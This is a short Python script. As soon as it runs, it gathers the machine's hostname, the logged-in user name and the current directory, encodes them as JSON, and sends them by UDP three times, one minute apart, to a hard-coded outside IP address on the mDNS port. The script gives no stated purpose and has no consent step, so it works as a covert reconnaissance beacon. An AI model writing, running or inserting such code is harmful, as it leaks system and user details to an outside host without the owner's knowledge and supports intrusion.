import json
import os
import socket
import time
from dataclasses import asdict, dataclass


@dataclass
class Host:
    name: str
    user: str
    cwd: str


def current():
    return Host(socket.gethostname(), os.getlogin(), os.getcwd())


udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(3):
    packet = json.dumps(asdict(current())).encode()
    udp.sendto(packet, ("203.0.113.40", 5353))
    time.sleep(60)
